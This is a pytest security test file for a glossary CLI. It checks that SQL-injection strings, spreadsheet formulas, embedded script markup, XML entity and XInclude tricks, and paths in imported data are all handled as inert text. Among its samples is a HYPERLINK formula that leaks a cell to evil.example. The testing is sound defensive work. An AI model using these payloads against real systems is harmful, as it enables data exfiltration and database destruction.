"""Security: SQL in any value is just text; exports never run as spreadsheet formulas;
XML imports are immune to entity tricks; paths found in imported data are never written to.
"""

from __future__ import annotations

import csv
import io
import os
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import etree

from glossary.cli import cli
from glossary.commands_formats import export_command
from glossary.store import Store

from .conftest import SEEDS
from .helpers import dump, preferred, row_counts, run_import, write_csv

DATA = Path(__file__).resolve().parent / "data" / "formats"
DGST_AR = "المديرية العامة لمراقبة التراب الوطني"
BORDER_AR = "حرس الحدود"
NS = {"t": "urn:iso:std:iso:30042:ed-2"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SQL = [
    "'; DROP TABLE entries; --",
    '"; DROP TABLE equivalents; --',
    "1' OR '1'='1",
    "x' UNION SELECT sql FROM sqlite_master --",
    "ar : امن OR *",
    'NEAR("امن" "وطني")',
    "%امن%",
    "_",
]


def tables(db: Path) -> list[tuple[str, int]]:
    """Each table of the db and its number of rows."""
    conn = sqlite3.connect(db)
    try:
        names = [
            r[0]
            for r in conn.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE '%fts_%' "
                "ORDER BY name"
            )
        ]
        return [(n, conn.execute(f'SELECT count(*) FROM "{n}"').fetchone()[0]) for n in names]
    finally:
        conn.close()


def _export(runner: CliRunner, db: Path, *args: str) -> str:
    result = runner.invoke(export_command, ["--db", str(db), *args])
    assert result.exit_code == 0, result.output
    return result.stdout_bytes.decode("utf-8")  # .stdout folds CRLF


# --- SQL is text ---------------------------------------------------------------------------
@pytest.mark.parametrize("query", SQL)
def test_sql_in_a_query_is_just_text(runner: CliRunner, fresh_db: Path, query: str) -> None:
    before = dump(fresh_db)
    result = runner.invoke(cli, ["lookup", query, "--db", str(fresh_db)])
    assert result.exit_code in (0, 1, 2)
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert dump(fresh_db) == before


def test_a_query_that_looks_like_sql_finds_nothing_it_should_not(
    runner: CliRunner, seeds_db: Path
) -> None:
    """`1' OR '1'='1` is a string nobody wrote: no entry matches it."""
    result = runner.invoke(cli, ["lookup", "1' OR '1'='1", "--db", str(seeds_db)])
    assert result.exit_code == 1 and result.stdout == ""
    assert result.stderr.startswith("no entry matches")


@pytest.mark.parametrize("value", SQL[:4])
def test_sql_in_an_edit_is_stored_as_text(runner: CliRunner, fresh_db: Path, value: str) -> None:
    before = tables(fresh_db)
    french = f"Direction {value}"
    result = runner.invoke(
        cli, ["edit", "DGST", "--fr", french, "--note", value, "--db", str(fresh_db)]
    )
    assert result.exit_code == 0, result.output
    assert tables(fresh_db) == [(n, c + 1 if n == "equivalents" else c) for n, c in before]
    row = preferred(fresh_db, DGST_AR)
    assert (row["fr"], row["note"]) == (french, value)
    found = runner.invoke(cli, ["lookup", french, "--db", str(fresh_db)])
    assert found.exit_code == 0 and DGST_AR in found.stdout


@pytest.mark.parametrize("value", SQL[:4])
def test_sql_in_an_imported_file_is_stored_as_text(
    runner: CliRunner, fresh_db: Path, tmp_path: Path, value: str
) -> None:
    before = tables(fresh_db)
    source = write_csv(
        tmp_path / "theirs.csv",
        [
            ["ar", "fr", "variants", "context", "note"],
            [BORDER_AR, f"garde {value}", f"{BORDER_AR} {value}", f"{BORDER_AR} {value}", value],
        ],
    )
    code, err = run_import(runner, source, fresh_db)
    assert code == 0, err
    after = dict(tables(fresh_db))
    assert after.keys() == dict(before).keys()  # no table dropped, none added
    assert after["entries"] == dict(before)["entries"] + 1
    row = preferred(fresh_db, BORDER_AR)
    assert (row["fr"], row["note"]) == (f"garde {value}", value)


# --- formulas -------------------------------------------------------------------------------
def _plant(db: Path, value: str) -> None:
    """A value starting with `value` in every text cell an export writes for DGST."""
    store = Store(db)
    entry = store.query("SELECT id FROM entries WHERE ar = ?", [DGST_AR])[0]["id"]
    with store.write():
        store.execute("UPDATE entries SET ar = ? WHERE id = ?", [value + DGST_AR, entry])
        store.execute(
            "UPDATE equivalents SET fr = ?, acronym = ? WHERE entry_id = ? AND preferred = 1",
            [value + "SUM(A1:A9)", value + "DGST", entry],
        )
        store.execute("UPDATE forms SET surface = ? || surface WHERE entry_id = ?", [value, entry])
        store.execute(
            "UPDATE sentences SET text = ? || text WHERE id IN "
            "(SELECT sentence_id FROM occurrences WHERE entry_id = ?)",
            [value, entry],
        )
    store.close()


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("reverse", [False, True])
def test_no_exported_csv_cell_can_run_as_a_formula(
    runner: CliRunner, fresh_db: Path, start: str, reverse: bool
) -> None:
    _plant(fresh_db, start)
    text = _export(runner, fresh_db, "--all", *(["--reverse"] if reverse else []))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'" + start + "SUM(A1:A9)" in cells and "'" + start + "DGST" in cells


def test_export_neutralizes_formulas(runner: CliRunner, fresh_db: Path) -> None:
    store = Store(fresh_db)
    with store.write():
        store.db.execute(
            "UPDATE equivalents SET fr = '=HYPERLINK(\"http://x\")' "
            "WHERE preferred = 1 AND acronym = 'DGST'"
        )
    rows = list(csv.DictReader(io.StringIO(_export(runner, fresh_db))))
    cell = next(r["fr"] for r in rows if r["acronym"] == "DGST")
    assert cell.startswith("'=")


def test_a_formula_in_a_french_cell_comes_out_neutralized(
    runner: CliRunner, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"cliquez")'
    source = write_csv(
        tmp_path / "in.csv",
        [["ar", "fr"], [BORDER_AR, formula], ["الوكالة الوطنية للموانئ", "+33 1 23"]],
    )
    db = tmp_path / "g.db"
    code, err = run_import(runner, source, db)
    assert code == 0, err
    assert preferred(db, BORDER_AR)["fr"] == formula  # the data is kept as given
    rows = {r["ar"]: r for r in csv.DictReader(io.StringIO(_export(runner, db)))}
    assert rows[BORDER_AR]["fr"] == "'" + formula
    assert rows["الوكالة الوطنية للموانئ"]["fr"] == "'+33 1 23"


def test_a_neutralized_csv_imports_back_to_the_values_as_they_were(
    runner: CliRunner, fresh_db: Path, tmp_path: Path
) -> None:
    _plant(fresh_db, "=")
    exported = tmp_path / "out.csv"
    exported.write_text(_export(runner, fresh_db), encoding="utf-8")
    db = tmp_path / "copy.db"
    code, err = run_import(runner, exported, db)
    assert code == 0, err
    row = preferred(db, "=" + DGST_AR)
    assert (row["fr"], row["acronym"]) == ("=SUM(A1:A9)", "=DGST")


def test_omegat_fields_have_no_tabs_or_newlines(runner: CliRunner, fresh_db: Path) -> None:
    """A value cannot add a field or a line to an OmegaT glossary."""
    store = Store(fresh_db)
    with store.write():
        store.execute(
            "UPDATE equivalents SET fr = ? WHERE preferred = 1 AND acronym = 'DGST'",
            ["Direction\tgénérale\nde la\r\nsurveillance\u2028du territoire"],
        )
    store.close()
    for args in ([], ["--reverse"]):
        result = runner.invoke(export_command, ["--db", str(fresh_db), "--format", "omegat", *args])
        out, err = result.stdout_bytes.decode("utf-8"), result.stderr
        lines = out.split("\n")
        assert lines[0] == "# -*- coding: utf-8 -*-" and lines[-1] == ""
        entries = [line for line in lines[:-1] if not line.startswith("#")]
        assert entries and all(len(line.split("\t")) in (2, 3) for line in entries)
        assert all("\r" not in line and "\u2028" not in line for line in entries)
        fields = [line.split("\t") for line in entries]
        french = "Direction générale de la surveillance du territoire"
        if args:
            assert [french, DGST_AR] in [f[:2] for f in fields]
            assert ["DGST", DGST_AR] in [f[:2] for f in fields]
        else:
            assert [DGST_AR, french] in [f[:2] for f in fields]
            assert err.strip() == f"exported {len(entries)} entries"


def test_markup_in_a_value_stays_text_in_tbx(runner: CliRunner, fresh_db: Path) -> None:
    hostile = '=1+1</term><script>alert("x")</script><!-- & ]]> <?php ?>'
    store = Store(fresh_db)
    with store.write():
        store.execute(
            "UPDATE equivalents SET fr = ? WHERE preferred = 1 AND acronym = 'DGST'", [hostile]
        )
    store.close()
    root = etree.fromstring(_export(runner, fresh_db, "--format", "tbx").encode("utf-8"))
    assert not root.xpath("//script") and not root.xpath("//t:script", namespaces=NS)
    terms = [t.text for t in root.xpath("//t:langSec[@xml:lang='fr']//t:term", namespaces=NS)]
    assert hostile in terms


# --- XML entity tricks ------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name", ["billion_laughs.tbx", "external_entity.tbx", "external_parameter_entity.tbx"]
)
def test_hostile_xml_is_refused_and_nothing_imported(
    runner: CliRunner, fresh_db: Path, tmp_path: Path, name: str
) -> None:
    before = row_counts(fresh_db)
    code, err = run_import(runner, DATA / name, fresh_db)
    assert code == 2
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ")
    assert "refused" in lines[0] and "nothing imported" in lines[0]
    assert row_counts(fresh_db) == before
    empty = tmp_path / "new.db"
    assert run_import(runner, DATA / name, empty)[0] == 2
    assert not empty.exists()  # refused before a db was even created


def test_an_xinclude_is_not_followed(runner: CliRunner, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("mot de passe très secret", encoding="utf-8")
    source = tmp_path / "include.tbx"
    source.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<tbx type="TBX-Basic" style="dca" xml:lang="fr" xmlns="urn:iso:std:iso:30042:ed-2" '
        'xmlns:xi="http://www.w3.org/2001/XInclude">\n'
        "<text><body><conceptEntry id='c1'>\n"
        f"<langSec xml:lang='ar'><termSec><term>{BORDER_AR}</term></termSec></langSec>\n"
        "<langSec xml:lang='fr'><termSec><term>garde "
        f"<xi:include href='{secret.as_uri()}' parse='text'/></term></termSec></langSec>\n"
        "</conceptEntry></body></text></tbx>\n",
        encoding="utf-8",
    )
    db = tmp_path / "g.db"
    code, err = run_import(runner, source, db)
    assert code == 0, err
    assert preferred(db, BORDER_AR)["fr"] == "garde"
    assert b"secret" not in db.read_bytes()


# --- paths in imported data -------------------------------------------------------------------
def test_paths_in_imported_data_are_never_written_to(
    runner: CliRunner, fresh_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A TBX entry names files as the source of its context, a CSV note names one: the
    import, a build, lookups and every export leave them alone."""
    monkeypatch.chdir(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("précieux", encoding="utf-8")
    os.utime(victim, (1_000_000_000, 1_000_000_000))
    absent = tmp_path / "absent" / "created.txt"
    named = [str(victim), str(absent), "../victim.txt", "imported:victim.txt", "~/.bashrc"]
    concepts = "".join(
        f"<conceptEntry id='c{i}'><langSec xml:lang='ar'><termSec>"
        f"<term>{BORDER_AR} {word}</term><descripGrp>"
        f"<descrip type='context'>انتشر {BORDER_AR} {word} على طول الساحل.</descrip>"
        f"<admin type='source'>{path}</admin></descripGrp></termSec></langSec>"
        "<langSec xml:lang='fr'><termSec><term>garde-frontières</term></termSec></langSec>"
        "</conceptEntry>"
        for i, (word, path) in enumerate(
            zip(["البحرية", "البرية", "الجوية", "الشرقية", "الغربية"], named, strict=True)
        )
    )
    tbx = tmp_path / "paths.tbx"
    tbx.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<tbx type="TBX-Basic" style="dca" '
        f'xml:lang="fr" xmlns="urn:iso:std:iso:30042:ed-2"><text><body>{concepts}'
        "</body></text></tbx>\n",
        encoding="utf-8",
    )
    note = write_csv(
        tmp_path / "note.csv",
        [["ar", "fr", "note"], ["الوكالة الوطنية للموانئ", "ANP", str(absent)]],
    )
    assert run_import(runner, tbx, fresh_db)[0] == 0
    assert run_import(runner, note, fresh_db)[0] == 0
    assert runner.invoke(cli, ["lookup", BORDER_AR, "--db", str(fresh_db)]).exit_code == 0
    for fmt in ("csv", "tbx", "omegat"):
        exported = _export(runner, fresh_db, "--format", fmt)
        if fmt == "tbx":
            assert str(victim) in exported  # the source is data, exported as text
    before = {p.relative_to(tmp_path) for p in tmp_path.rglob("*")}
    result = runner.invoke(cli, ["build", str(SEEDS), "--db", str(fresh_db)])
    assert result.exit_code == 0, result.output
    assert victim.read_text(encoding="utf-8") == "précieux"
    assert victim.stat().st_mtime == 1_000_000_000
    assert not absent.exists() and not absent.parent.exists()
    after = {p.relative_to(tmp_path) for p in tmp_path.rglob("*")}
    assert after - before <= {Path("glossary.db"), Path("glossary.db-wal"), Path("glossary.db-shm")}
